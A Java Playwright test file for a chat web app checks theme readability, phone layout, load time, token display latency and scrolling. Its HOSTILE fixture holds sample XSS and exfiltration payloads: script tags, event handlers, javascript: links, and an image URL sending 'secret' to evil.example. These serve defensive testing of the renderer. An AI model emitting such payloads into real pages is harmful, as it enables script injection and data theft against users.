package dev.varve.dist;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.CDPSession;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;

import dev.varve.testkit.Effort;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.util.List;
import java.util.Locale;

/** How the page looks, to all kinds of people, and how quick it is. */
@Tag("nightly")
@Timeout(240)
class PageLooksIT {
    /** Hostile text that a model may write, by chance or because a prompt requests it. */
    static final String HOSTILE =
            """
            # All kinds of text

            Some **bold** words, `code`, a [link](https://example.org/) and a bad [one](javascript:hacked()).

            <script>window.hacked = 1</script>
            <img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>
            <a href="javascript:window.hacked = 1">click</a> <style>body { display: none }</style>
            <iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>
            <form action="https://evil.example"><input name=q></form>

            ![a picture](https://evil.example/x.png?told=secret) ![another](data:text/html,hacked)
            [data](data:text/html;base64,PHNjcmlwdD4=) <https://example.org/a> [vb](vbscript:x)

            ```html
            <script>window.hacked = 1</script>
            ```

            Euler: $e^{i\\pi} = -1$, a price of $5 or $10, and

            $$\\int_0^1 x\\,dx = \\frac{1}{2}$$

            $\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{https://evil.example/y.png}$
            $\\htmlStyle{position:fixed}{x}$ $\\def\\a{\\a\\a}\\a$

            | Name | Value |
            |:-----|------:|
            | one  |     1 |

            - [x] done
            1. first
               > quoted

            The end.
            """;

    /** The formula of that text which would expand forever. */
    static final String REFUSED_FORMULA = "\\def\\a{\\a\\a}\\a";

    private static final int FRAMES = 60;

    /** Most processor time until the page is usable. */
    private static final int USABLE_MILLIS = 500;

    /** Most time from the event of a token until it is shown. */
    private static final int SHOWN_MILLIS = 50;

    /** Work of a picture while many messages scroll. */
    private static final int FRAME_MILLIS = 16;

    /** So much longer may things take by day, when others compute beside them. */
    private static final int BUSY = Effort.of(4, 1);

    private static PageBrowser browser;
    private static Varve.Server server;

    @BeforeAll
    static void start() throws Exception {
        browser = SharedPage.browser();
        server = SharedPage.server();
    }

    @Test
    void pageIsAccessibleInLightAndDark() {
        try (BrowserContext person = browser.desktop()) {
            ChatPage tab = ChatPage.open(person, server.url());
            tab.picture("chat-empty");
            ScriptedChat.answers(tab.page(), "Let me **think**.", HOSTILE);
            tab.askAndWait("Show me all kinds of text.");
            ScriptedChat.ends(tab.page());
            ScriptedChat.refuses(tab.page(), 429, "queue_full", "64 requests wait");
            tab.ask("And more?");
            assertThat(tab.lastAnswer().locator(".error")).isVisible();
            tab.messages("assistant").first().locator(".thoughts summary").click();
            tab.messages("assistant").first().locator(".facts summary").click();
            tab.picture("chat-light");
            PageCheck.isReadable(tab.page());
            tab.page()
                    .emulateMedia(new Page.EmulateMediaOptions().setColorScheme(ColorScheme.DARK));
            tab.picture("chat-dark");
            PageCheck.isReadable(tab.page());
            tab.button("Settings").click();
            tab.page().locator(".settings summary").last().click();
            tab.picture("settings-dark");
            PageCheck.isReadable(tab.page());
            tab.page().keyboard().press("Escape");
            tab.button("Use light colours").click();
            assertThat(tab.button("Use dark colours")).isVisible();
            tab.picture("chat-chosen-light");
            tab.page().reload();

            assertEquals("light", tab.page().evaluate("document.documentElement.dataset.theme"));
        }
    }

    @Test
    void pageFitsAPhone() {
        try (BrowserContext person = browser.phone()) {
            ChatPage tab = ChatPage.open(person, server.url());
            ScriptedChat.answers(tab.page(), "Let me think.", HOSTILE);
            tab.question().fill("Show me all kinds of text.");
            tab.button("Send").tap();
            assertThat(tab.lastAnswer()).hasAttribute("aria-busy", "false");
            tab.picture("phone-chat");
            PageCheck.isTouchable(tab.page());
            PageCheck.fits(tab.page());
            PageCheck.isReadable(tab.page());
            tab.button("Conversations").tap();
            assertThat(tab.button("New chat")).isVisible();
            tab.page().waitForFunction("() => document.getAnimations().length === 0");
            tab.picture("phone-conversations");
            PageCheck.isTouchable(tab.page());
            PageCheck.isReadable(tab.page());
            tab.button("Close conversations").tap();
            assertThat(tab.button("New chat")).isHidden();
            tab.button("Settings").tap();
            assertThat(tab.button("Done")).isVisible();
            tab.picture("phone-settings");
            PageCheck.isTouchable(tab.page());
            PageCheck.fits(tab.page());
            PageCheck.isReadable(tab.page());
        }
    }

    @Test
    void firstLoadIsSmallAndQuick() {
        double best = Double.MAX_VALUE;
        double work = Double.MAX_VALUE;
        for (int load = 0; load < 5; load++) {
            try (BrowserContext person = browser.desktop()) {
                person.addInitScript(
                        """
                        new MutationObserver((changes, observer) => {
                            if (document.activeElement?.id === 'question') {
                                window.usable = performance.now();
                                observer.disconnect();
                            }
                        }).observe(document, {childList: true, subtree: true, attributes: true});
                        document.addEventListener('focusin', () => window.usable ??= performance.now());
                        """);
                ChatPage tab = ChatPage.blank(person);
                CDPSession debugger = person.newCDPSession(tab.page());
                debugger.send("Performance.enable", times());
                tab.page().navigate(server.url());
                tab.page().waitForFunction("() => window.usable");
                work = Math.min(work, workedMillis(debugger));
                best = Math.min(best, number(tab.page().evaluate("window.usable")));
                double bytes =
                        number(
                                tab.page()
                                        .evaluate(
                                                """
                                                () => [...performance.getEntriesByType('navigation'),
                                                    ...performance.getEntriesByType('resource')]
                                                    .reduce((sum, entry) => sum + entry.transferSize, 0)
                                                """));
                assertTrue(bytes > 20_000 && bytes < 200_000, "bytes " + bytes);
                tell(
                        String.format(
                                Locale.ROOT,
                                "first load: %.0f bytes, usable after %.0f ms, %.0f ms of work",
                                bytes,
                                best,
                                work));
            }
        }
        assertTrue(work <= BUSY * USABLE_MILLIS, "milliseconds " + work);
    }

    @Test
    void tokensAreShownOnArrival() {
        try (BrowserContext person = browser.desktop()) {
            person.addInitScript(
                    """
                    window.came = [];
                    window.shown = [];
                    const real = window.fetch;
                    window.fetch = async (...request) => {
                        const response = await real(...request);
                        if (!request[0].url.endsWith('/chat/completions')) {
                            return response;
                        }
                        const watched = new TransformStream({transform(bytes, out) {
                            if (new TextDecoder().decode(bytes).includes('"content":"')) {
                                window.came.push(performance.now());
                            }
                            out.enqueue(bytes);
                        }});
                        return new Response(response.body.pipeThrough(watched), response);
                    };
                    new MutationObserver(changes => {
                        if (changes.some(change => change.target.closest?.('.rich'))) {
                            window.shown.push(performance.now());
                        }
                    }).observe(document, {childList: true, subtree: true});
                    """);
            ChatPage tab = ChatPage.open(person, server.url());
            tab.ask(ChatPage.LONG);
            tab.awaitWords(500);
            tab.button("Stop").click();
            tab.awaitEnd();

            double median =
                    number(
                            tab.page()
                                    .evaluate(
                                            """
                                            () => window.came.slice(1)
                                                .map(at => (window.shown.find(then => then >= at) ?? Infinity) - at)
                                                .sort((a, b) => a - b)[Math.floor(window.came.length / 2)]
                                            """));
            tell("a token is shown " + median + " ms after it came");
            assertTrue(median <= BUSY * SHOWN_MILLIS, "milliseconds " + median);
        }
    }

    @Test
    void fiveThousandMessagesScroll() {
        try (BrowserContext person = browser.desktop()) {
            ChatPage tab = ChatPage.open(person, server.url());
            tab.page()
                    .evaluate(
                            """
                            async () => {
                                const open = indexedDB.open('varve');
                                const database = await new Promise(done => open.onsuccess = () => done(open.result));
                                const all = database.transaction(['chats', 'messages'], 'readwrite');
                                all.objectStore('chats').put({id: 'long', title: 'A long talk', created: 1,
                                    updated: 2, settings: {}});
                                for (let order = 0; order < 5000; order++) {
                                    all.objectStore('messages').put({id: `m${order}`, chat: 'long', order,
                                        role: order % 2 ? 'assistant' : 'user', reasoning: '', calls: [],
                                        state: 'done', finish: 'stop', facts: {},
                                        content: `Message ${order} with **bold** words and \\`code\\`.\\n\\n`
                                            + '- a list of things\\n- and another thing\\n\\n'.repeat(order % 5)});
                                }
                                await new Promise(done => all.oncomplete = done);
                            }
                            """);
            tab.page().navigate(server.url() + "/#/chat/long");
            assertThat(tab.lastAnswer()).containsText("Message 4999");
            CDPSession debugger = person.newCDPSession(tab.page());
            debugger.send("Performance.enable", times());
            double before = workedMillis(debugger);
            tab.page()
                    .evaluate(
                            """
                            async frames => {
                                const scroller = document.querySelector('.scroller');
                                for (let frame = 0; frame < frames; frame++) {
                                    scroller.scrollTop -= 120;
                                    await new Promise(requestAnimationFrame);
                                }
                            }
                            """,
                            FRAMES);
            double frame = (workedMillis(debugger) - before) / FRAMES;
            tell("5,000 messages: a frame takes " + frame + " ms of work while they scroll");
            assertTrue(frame <= BUSY * FRAME_MILLIS, "milliseconds " + frame);
            tab.page()
                    .waitForFunction(
                            """
                            () => {
                                document.querySelector('.scroller').scrollTop = 0;
                                return document.querySelector('.message').querySelector('.bubble');
                            }
                            """);
            assertThat(tab.messages("user").first()).containsText("Message 0 ");
            assertTrue(
                    tab.page().locator(".message .actions").count() < 2500,
                    "only those that were seen are laid out");
            assertEquals(List.of(), tab.complaints());
        }
    }

    /** In processor time, which other programs on the machine do not lengthen. */
    private static JsonObject times() {
        JsonObject options = new JsonObject();
        options.addProperty("timeDomain", "threadTicks");
        return options;
    }

    private static double workedMillis(CDPSession debugger) {
        return debugger.send("Performance.getMetrics").getAsJsonArray("metrics").asList().stream()
                .map(JsonElement::getAsJsonObject)
                .filter(each -> each.get("name").getAsString().equals("TaskDuration"))
                .mapToDouble(each -> each.get("value").getAsDouble() * 1000)
                .sum();
    }

    private static double number(Object value) {
        return ((Number) value).doubleValue();
    }

    private static void tell(String measured) {
        System.getLogger("dev.varve.dist").log(System.Logger.Level.INFO, measured);
    }
}
